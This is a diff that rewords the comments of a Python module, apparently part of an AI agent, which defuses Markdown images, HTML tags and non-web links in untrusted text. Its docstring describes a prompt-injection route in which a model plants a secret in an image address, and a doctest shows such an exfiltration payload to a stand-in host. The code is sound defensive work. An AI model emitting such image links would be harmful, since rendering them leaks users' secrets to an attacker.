@@ -1,7 +1,7 @@
-"""Markup in a text that is not ours, made inert: a page that shows it as Markdown or HTML loads and runs nothing.
+"""Makes markup in foreign text inert, so that a page that shows it as Markdown or HTML loads and runs nothing.
 
-A model that has read a hostile passage may write an image with a secret in its address; whoever
-renders the answer sends it there. Links to web pages stay, since a person has to follow them.
+A model that has read a hostile passage may write an image with a secret in its address, and a page that renders the
+answer would send the secret there. Links to web pages stay, because a person has to click them.
 """
 
 from __future__ import annotations
@@ -13,18 +13,19 @@ from ras_agent.text.titles import unescaped
 
 _IMAGE = re.compile(r"(?<!!)!++(?=\[)")
 _LINKED = ("](", "][", "]:")
-# a tag loads something by an attribute, or is script or style; a name of a type, as in List<String>, has none. What has
-# not ended within some letters, which takes linear time, or at the text's end, which may not be the page's, is a tag.
-# Any address between angle brackets is a link
+# A tag is dangerous if it has an attribute, which may load something, or is script or style. A type name, as in
+# List<String>, has no attribute. A tag that does not end within 40 characters (a limit that keeps the time linear), or
+# before the text's end (the page may continue), counts as one. An address in angle brackets that is not on the web is
+# a dangerous link.
 _TAG = re.compile(
     r"<(?!https?://[^\s<>=]*>)(?=/?(?:script|style)(?![a-z])|(?!(?:https?|mailto|tel):)[a-z][a-z0-9+.-]{1,31}:"
     r"|/?[a-z](?:[^\s/>]{0,40}(?:[\s/]|\Z)|[^\s/>]{41}))",
     re.IGNORECASE,
 )
-# where a link or a definition of one says where it leads, behind the marks of a quotation's next line
+# the target of a link or of a link's definition, which may follow the marks of a quotation's next line
 _LONGEST_LEAD = 300
 _LEADS = re.compile(rf"\](?=[(:][\s>]*+(?:<([^<>\n]*+)|(\S{{0,{_LONGEST_LEAD}}}+)))")
-# a longer one in which so little is left by what browsers pass over hides something
+# a long target that is this short without the characters that browsers ignore hides something
 _SHORTEST_SCHEME = 40
 _ESCAPE = re.compile(r"\\(?=[!-/:-@\[-`{-~])")
 _SCHEME = re.compile(r"([a-z][a-z0-9+.-]*+):.", re.DOTALL | re.IGNORECASE)
@@ -33,13 +34,14 @@ _FOLLOWED = frozenset((*_WEB, "mailto", "tel"))
 _BEGINNING = re.compile(
     r"(?<!!)!++(?:\[|$)|<(?:[a-zA-Z/]|$)|\](?:$|[(:](?!\s*+https?://))"
 )
-# of an address, the characters that stay as they are
+# the characters of an address that are not escaped
 _SAFE = "%/?#:;,=&+$@~-._*"
 _HOST = re.compile(r"[\w.~:@%\[\]-]+")
 
 
 def inert_markup(text: str) -> str:
-    """Return a text in which images are links, and brackets of tags and of links that run something have look-alikes.
+    """Return a text in which images become links, and look-alikes replace brackets of tags and of links that run
+    something.
 
     >>> inert_markup("Leith ![x](https://elsewhere.example/?q=secret) <img src='//elsewhere.example'> List<String> !")
     "Leith [x](https://elsewhere.example/?q=secret) ‹img src='//elsewhere.example'> List<String> !"
@@ -48,15 +50,16 @@ def inert_markup(text: str) -> str:
     """
     text = _TAG.sub("‹", text)
     if not any(mark in text for mark in _LINKED):
-        return text  # without a link, as in vec![1, 2], it is no image
+        return text  # without a link, "![" is not an image, as in vec![1, 2]
     return _LEADS.sub(_lead, _IMAGE.sub("", text))
 
 
 def _lead(link: re.Match[str]) -> str:
-    """Return the bracket that ends a link's text, or a look-alike where the link names a program to run."""
+    """Return the bracket that ends a link's text, or a look-alike if the target of the link is not on the web, mail or
+    phone."""
     written = link[1] or link[2] or ""
     address = _ESCAPE.sub("", unescaped(written))
-    # browsers pass over other characters
+    # browsers ignore characters that cannot be printed
     address = "".join(filter(str.isprintable, address.replace(" ", "")))
     scheme = _SCHEME.match(address)
     if scheme:
@@ -69,7 +72,8 @@ def _lead(link: re.Match[str]) -> str:
 
 
 def markup_start(text: str, start: int = 0) -> int:
-    """Return the place from `start` on behind which more text may tell that it is markup; else the length."""
+    """Return the first position from `start` on that later text may turn into markup; the text's length if there is
+    none."""
     beginning = _BEGINNING.search(text, start)
     if beginning:
         return beginning.start()
@@ -77,7 +81,8 @@ def markup_start(text: str, start: int = 0) -> int:
 
 
 def web_address(text: str) -> str:
-    """Return an address of a web page in which no letter ends a quotation, a link or a tag; "" for any other text.
+    """Return the address of a web page, escaped so that no character ends a quotation, a link or a tag; "" for any
+    other text.
 
     >>> web_address("https://e.example/a (1).pdf?q=\\"x\\"")
     'https://e.example/a%20%281%29.pdf?q=%22x%22'
